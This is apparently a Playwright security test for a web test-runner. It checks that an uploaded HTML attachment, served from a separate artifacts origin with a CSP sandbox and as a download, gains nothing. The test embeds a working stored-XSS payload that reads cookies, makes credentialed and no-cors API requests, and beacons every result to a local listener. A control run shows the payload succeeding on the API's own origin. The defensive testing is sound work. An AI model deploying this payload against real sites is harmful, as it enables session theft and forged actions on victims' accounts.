"""Issue #12, "Done when" 2: a run's HTML attachment is hostile script, and opening it from the UI gets it nothing.

The attachment tries what a stored XSS would: read document.cookie, GET and POST /api/tests (relative, and at the
API's absolute origin with credentials), and reports every answer to a listener of this test. A control first runs
the same payload on the API's origin (as the old results proxy served it) to prove it works there. Then, from the
UI, the attachment is served by the artifacts origin: no answer reaches the listener, no test is created, and the
same run's report and trace viewer still render, in the UI's iframe and in a new tab.
"""

from __future__ import annotations

import json
import re
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import pytest
from playwright.sync_api import Browser, Route, expect

from tests.e2e_ui.conftest import LIGHT_RUNS, watch_foreign_requests
from tests.e2e_ui.helpers import sign_in
from tests.k8s.wait import wait_for
from tests.support.local_server import LocalServer, local_server

pytestmark = pytest.mark.browser

ATTEMPTS = {"cookie", "relGet", "absGet", "relPost", "absPost", "noCorsPost"}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, ui_built: None) -> Iterator[LocalServer]:
    # Its own server: the control creates a test, which the shared server's list pages must not see.
    with local_server(tmp_path_factory.mktemp("ui-isolation"), LIGHT_RUNS) as srv:
        yield srv


class Listener:
    """Records what the hostile page reports: one GET /report?<attempt>=<answer> per attempt."""

    def __init__(self) -> None:
        self.reports: list[tuple[str, str]] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                listener.reports.extend(parse_qsl(urlsplit(self.path).query, keep_blank_values=True))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def names(self) -> set[str]:
        return {name for name, _ in self.reports}


@pytest.fixture
def listener() -> Iterator[Listener]:
    listener = Listener()
    listener.thread.start()
    yield listener
    listener.httpd.shutdown()
    listener.thread.join(timeout=10)
    assert not listener.thread.is_alive()


def payload(api: str, listener: str, marker: str) -> str:
    body = json.dumps({"title": marker, "script": "test('x', async () => {});", "language": "javascript"})
    return f"""<!doctype html><html><body><p>attachment</p><script>
(async () => {{
  const API = {json.dumps(api)}, LISTENER = {json.dumps(listener)}, BODY = {json.dumps(body)};
  const out = {{}};
  const report = (k, v) => {{
    out[k] = String(v).slice(0, 300);
    new Image().src = LISTENER + '/report?' + encodeURIComponent(k) + '=' + encodeURIComponent(out[k]);
  }};
  try {{ report('cookie', 'value:' + document.cookie); }} catch (e) {{ report('cookie', 'error ' + e); }}
  const post = {{ method: 'POST', credentials: 'include', body: BODY,
                 headers: {{ 'content-type': 'application/json' }} }};
  for (const [k, url, init] of [['relGet', '/api/tests', {{ credentials: 'include' }}],
                                ['absGet', API + '/api/tests', {{ credentials: 'include' }}],
                                ['relPost', '/api/tests', post], ['absPost', API + '/api/tests', post]]) {{
    try {{ const r = await fetch(url, init); report(k, r.status + ' ' + (await r.text())); }}
    catch (e) {{ report(k, 'error ' + e); }}
  }}
  try {{
    await fetch(API + '/api/tests', {{ method: 'POST', mode: 'no-cors', credentials: 'include',
                                     headers: {{ 'content-type': 'text/plain' }}, body: BODY }});
    report('noCorsPost', 'sent');
  }} catch (e) {{ report('noCorsPost', 'error ' + e); }}
  window.name = JSON.stringify(out);
}})();
</script></body></html>"""


def script_attaching(html: str) -> str:
    return f"""import {{ test, expect }} from '@playwright/test';
import fs from 'node:fs';

test('attaches a hostile page', async ({{ page }}, testInfo) => {{
  await page.setContent('<button onclick="this.textContent = \\'Clicked\\'">Click me</button>');
  await page.getByRole('button').click();
  await expect(page.getByRole('button')).toHaveText('Clicked');
  // A file, as a report would carry a page dump: the HTML reporter copies it to data/<sha1>.html.
  const file = testInfo.outputPath('hostile.html');
  fs.writeFileSync(file, {json.dumps(html)});
  await testInfo.attach('hostile.html', {{ path: file, contentType: 'text/html' }});
}});
"""


def titles(server: LocalServer) -> list[str]:
    with server.client() as client:
        return [t["title"] for t in client.get("/api/tests").json()["items"]]


def test_a_hostile_html_attachment_gets_nothing_and_the_report_still_works(
    browser: Browser, server: LocalServer, listener: Listener
) -> None:
    marker = f"pwned-{uuid.uuid4().hex[:8]}"
    html = payload(server.url, listener.url, marker)
    context = browser.new_context(viewport={"width": 1280, "height": 720}, base_url=server.url)
    foreign = watch_foreign_requests(context, server.url, server.artifacts_url, listener.url)
    page = context.new_page()
    sign_in(page, server)

    # Control: the same payload, run on the API's origin with the viewer's session, gets everything.
    control = context.new_page()
    control.goto(f"{server.url}/healthz")
    control.set_content(payload(server.url, listener.url, marker + "-control"))
    wait_for(lambda: listener.names() >= ATTEMPTS, timeout=20, message="the control payload to report")
    answers = dict(listener.reports)
    assert answers["absGet"].startswith("200") and answers["absPost"].startswith("201"), answers
    assert marker + "-control" in titles(server)
    control.close()
    listener.reports.clear()

    # The hostile run, viewed from the UI.
    with server.client() as client:
        submitted = client.post("/api/test", json={"title": "hostile", "script": script_attaching(html)})
        run_id = submitted.json()["runId"]
        run = server.wait_terminal(client, run_id)
        assert run["phase"] == "Passed", run
        items = client.get(f"/api/runs/{run_id}/artifacts").json()["items"]
        attachment = next((a for a in items if a["path"].endswith(".html")), None)
        assert attachment is not None, items
    assert attachment["url"].startswith(server.artifacts_url + "/")

    page.goto(f"/runs/{run_id}")
    frame = page.locator("iframe[title='Report']")
    assert (frame.get_attribute("src") or "").startswith(server.artifacts_url + "/")
    report = page.frame_locator("iframe[title='Report']")
    expect(report.get_by_text("attaches a hostile page").first).to_be_visible(timeout=30_000)
    # The finished run's log comes through the API's redirect to the artifacts origin (CORS, no credentials).
    expect(page.get_by_role("log", name="Log")).to_contain_text(re.compile("1 passed", re.I), timeout=15_000)

    # Opened in a tab, the attachment is a download: the browser never renders it.
    tab = context.new_page()
    with tab.expect_download() as download:
        try:
            tab.goto(attachment["url"])
        except Exception as exc:  # Chromium aborts the navigation when it turns into a download
            assert "Download is starting" in str(exc) or "net::ERR_ABORTED" in str(exc), exc
    assert download.value.suggested_filename.endswith(".html")
    tab.close()

    # A browser that rendered it anyway (Content-Disposition ignored) still runs none of it: CSP sandbox.
    rendered = context.new_page()
    served: dict[str, str] = {}

    def without_disposition(route: Route) -> None:
        response = route.fetch()
        served.update(response.headers)
        headers = {k: v for k, v in response.headers.items() if k.lower() != "content-disposition"}
        route.fulfill(response=response, headers=headers)

    rendered.route(attachment["url"], without_disposition)
    rendered.goto(attachment["url"])
    expect(rendered.get_by_text("attachment")).to_be_visible()
    assert served["content-security-policy"] == "sandbox" and served["x-content-type-options"] == "nosniff"
    assert served["content-disposition"].startswith("attachment")

    # The report and the trace viewer of the same run still work: in the UI's iframe and in new tabs.
    report.get_by_text("attaches a hostile page").first.click()
    expect(report.get_by_text("hostile.html").first).to_be_visible(timeout=15_000)
    with page.expect_popup() as opened:
        page.get_by_role("link", name="Open report in a new tab").click()
    expect(opened.value.get_by_text("attaches a hostile page").first).to_be_visible(timeout=30_000)
    with page.expect_popup() as traced:
        page.get_by_role("link", name="Trace 1").click()
    viewer = traced.value
    assert viewer.url.startswith(server.artifacts_url + "/")
    expect(viewer.get_by_text(re.compile("click", re.I)).first).to_be_visible(timeout=30_000)

    # Every attempt failed: nothing reached the listener, the page never ran, and no test was created.
    assert rendered.evaluate("() => window.name") == ""
    assert listener.reports == [], listener.reports
    assert marker not in titles(server)
    context.close()
    assert not foreign, f"requests left the app's origins: {foreign}"
